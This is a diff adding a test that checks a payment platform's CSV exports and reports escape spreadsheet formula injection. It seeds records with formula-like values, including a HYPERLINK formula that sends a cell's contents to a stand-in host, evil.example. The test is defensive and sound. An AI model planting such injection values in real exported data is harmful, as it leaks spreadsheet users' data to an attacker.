@@ -220,6 +220,155 @@ describe.each(TEST_DATABASE_KINDS)('CSV downloads on %s', (kind) => {
     ]);
   });
 
+  it('writes text a spreadsheet would run as a formula as text, amounts and dates as they are', async () => {
+    const { db } = testApp;
+    const mallory = await createTestMerchant(db, 'Mallory');
+    const malloryUser = await createTestPerson(db, {
+      username: 'mallory',
+      role: 'merchant',
+      merchantId: mallory.id,
+    });
+    const [pool] = await db.insert(terminalPools).values({ name: '@Pool' }).returning();
+    const terminal = await createTestTerminal(db, mallory.id, {
+      name: '-Till',
+      terminalPoolId: pool?.id ?? null,
+    });
+    const [provider] = await db
+      .insert(providers)
+      .values({ name: '+Provider', code: 'formula-provider' })
+      .returning();
+    const [method] = await db
+      .select()
+      .from(paymentMethods)
+      .where(eq(paymentMethods.code, 'HUMOUZS'));
+    const [account] = await db
+      .insert(peopleAccounts)
+      .values({
+        providerId: provider?.id ?? 0,
+        paymentMethodId: method?.id ?? 0,
+        bankName: 'Kapitalbank',
+      })
+      .returning();
+    const hyperlink = '=HYPERLINK("http://evil.example/?"&A2,"x")';
+    await createTestInvoice(db, terminal, {
+      merchantInvoiceId: '+1+2',
+      customerExternalId: '-2+3',
+      customerFirstName: hyperlink,
+      customerLastName: '',
+      amount: 150_000n,
+      status: 'DONE',
+      createdAt: new Date('2026-05-01T10:00:00Z'),
+      statusDate: new Date('2026-05-01T10:05:00Z'),
+      peopleAccountId: account?.id,
+      paymentMethodId: method?.id,
+    });
+    await createTestInvoice(db, terminal, {
+      merchantInvoiceId: '@SUM(1)',
+      customerExternalId: '\tuser',
+      customerFirstName: 'Plain',
+      customerLastName: '-Name',
+      amount: 25_000n,
+      fee: 500n,
+      status: 'NEW',
+      createdAt: new Date('2026-05-01T09:00:00Z'),
+      statusDate: new Date('2026-05-01T09:00:00Z'),
+    });
+    await db.insert(settlements).values({
+      merchantId: mallory.id,
+      terminalId: terminal.id,
+      baseAmount: 200_000n,
+      settlementAmount: 200_000n,
+      createdBy: malloryUser.id,
+      createdAt: new Date('2026-05-02T12:00:00Z'),
+    });
+    const records = (body: string): Array<Record<string, string>> =>
+      parse(body, { bom: true, columns: true });
+    const invoiceCells = (record: Record<string, string> | undefined) => [
+      record?.['Merchant Invoice ID'],
+      record?.['Created (UTC)'],
+      record?.Amount,
+      record?.Fee,
+      record?.Terminal,
+      record?.['Payment method'],
+      record?.['User ID'],
+      record?.['Owner name'],
+    ];
+    const expectedInvoices = [
+      [
+        "'+1+2",
+        '01/05/2026 10:00:00',
+        '1500.00',
+        '0.00',
+        "'-Till",
+        'Humo',
+        "'-2+3",
+        `'${hyperlink}`,
+      ],
+      [
+        "'@SUM(1)",
+        '01/05/2026 09:00:00',
+        '250.00',
+        '5.00',
+        "'-Till",
+        '-',
+        "'\tuser",
+        'Plain -Name',
+      ],
+    ];
+
+    const invoicesCsv = await download(
+      `/api/v1/invoice/csv?merchantId=${mallory.id}`,
+      cookies.admin,
+    );
+    expect(invoicesCsv.statusCode).toBe(200);
+    expect(records(invoicesCsv.body).map(invoiceCells)).toEqual(expectedInvoices);
+    // Marked inside the quotes, with the formula's own quotes doubled (RFC 4180).
+    expect(invoicesCsv.body).toContain(',"\'=HYPERLINK(""http://evil.example/?""&A2,""x"")",');
+    expect(invoicesCsv.body).toContain(',1500.00,0.00,');
+
+    const transactions = await download(
+      `/api/v1/report/invoice?periodStart=2026-05-01&periodEnd=2026-05-01&merchantId=${mallory.id}`,
+      cookies.admin,
+    );
+    expect(transactions.statusCode).toBe(200);
+    expect(records(transactions.body).map(invoiceCells)).toEqual(expectedInvoices);
+
+    const providerReport = await download(
+      `/api/v1/report/provider?periodStart=2026-05-01&periodEnd=2026-05-31&currencyId=${currencyId('UZS')}&providerId=${provider?.id}`,
+      cookies.admin,
+    );
+    expect(csvRows(providerReport.body).slice(1)).toEqual([
+      ['2026-05-01', "'+Provider", 'Humo', 'DEPOSIT', 'DONE', '1', '1500.00', 'UZS'],
+    ]);
+
+    const poolReport = await download(
+      `/api/v1/report/pool/balance?periodStart=2026-05-01&periodEnd=2026-05-31&terminalPoolId=${pool?.id}`,
+      cookies.admin,
+    );
+    expect(csvRows(poolReport.body).slice(1)).toEqual([
+      [
+        "'@Pool",
+        String(terminal.id),
+        "'-Till",
+        'UZS',
+        '1500.00',
+        '0.00',
+        '0.00',
+        '2000.00',
+        '-500.00',
+      ],
+    ]);
+
+    const balance = await download(
+      `/api/v1/report/balance?periodStart=2026-05-01&periodEnd=2026-05-02&currencyId=${currencyId('UZS')}&merchantId=${mallory.id}`,
+      cookies.admin,
+    );
+    expect(csvRows(balance.body).slice(1)).toEqual([
+      ['2026-05-01', 'UZS', '1', '1500.00', '0', '0.00', '0.00', '0.00', '1500.00'],
+      ['2026-05-02', 'UZS', '0', '0.00', '0', '0.00', '0.00', '2000.00', '-2000.00'],
+    ]);
+  });
+
   it('checks each report’s permission and its required fields', async () => {
     // The merchant role has report.read.balance and report.read.invoice, not provider or pool.
     expect(
